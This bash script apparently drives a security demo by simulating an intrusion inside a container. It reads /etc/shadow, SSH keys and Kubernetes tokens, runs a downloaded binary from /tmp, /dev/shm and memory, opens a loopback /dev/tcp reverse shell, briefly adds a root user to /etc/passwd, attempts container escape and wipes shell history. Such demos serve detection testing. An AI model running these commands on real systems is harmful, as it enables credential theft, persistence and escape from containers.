#!/bin/bash
# A scripted intrusion, run inside the demo's application container. Harmless: it talks to its own
# loopback address and to the demo's web server, and undoes its one change to a file.
step() { printf '   %s\n' "$*"; }
pause() { sleep 0.3; }

step "looks around: id, processes, environment of process 1"
id >/dev/null
cat /proc/1/environ >/dev/null
pause

step "reads credentials: /etc/shadow, keys, tokens"
cat /etc/shadow >/dev/null
cat /root/.ssh/id_ed25519 /run/secrets/database_password >/dev/null 2>&1
cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null 2>&1
pause

step "downloads a program to /tmp/.cache, makes it executable and runs it"
mkdir -p /tmp/.cache
python3 -c '
import urllib.request
urllib.request.urlretrieve("http://web/assets/updater", "/tmp/.cache/updater")'
chmod +x /tmp/.cache/updater
/tmp/.cache/updater 0.2
pause

step "tries to run it from /dev/shm (refused there), and without any file (memfd)"
cp /tmp/.cache/updater /dev/shm/kworker
/dev/shm/kworker 0.2 2>/dev/null
python3 -c '
import os
program = open("/tmp/.cache/updater", "rb").read()
descriptor = os.memfd_create("update")
os.write(descriptor, program)
os.execve(f"/proc/self/fd/{descriptor}", ["updater", "0.2"], {})'
pause

step "opens a reverse shell to a listener on its own loopback address"
python3 -c '
import socket
listener = socket.create_server(("127.0.0.1", 4444))
listener.settimeout(5)
connection, _ = listener.accept()
connection.sendall(b"id; exit\n")
connection.settimeout(2)
try:
    while connection.recv(4096):
        pass
except OSError:
    pass' &
sleep 0.5
bash -c 'bash -i >&/dev/tcp/127.0.0.1/4444 0>&1' 2>/dev/null
wait
pause

step "adds a user to /etc/passwd and takes it out again"
echo 'support:x:0:0::/root:/bin/bash' >>/etc/passwd
sed -i '/^support:x:0:0:/d' /etc/passwd
pause

step "tries to get out: docker.sock, new namespaces, a mount, process 1's namespaces"
python3 -c '
import socket
socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock")' 2>/dev/null
unshare --user --map-root-user --mount true 2>/dev/null
unshare --mount true 2>/dev/null
mount -t cgroup -o memory none /mnt 2>/dev/null
nsenter --target 1 --mount --net true 2>/dev/null
pause

step "covers its tracks"
rm -rf /tmp/.cache /dev/shm/kworker
ln -sf /dev/null /root/.bash_history
rm -f /root/.bash_history
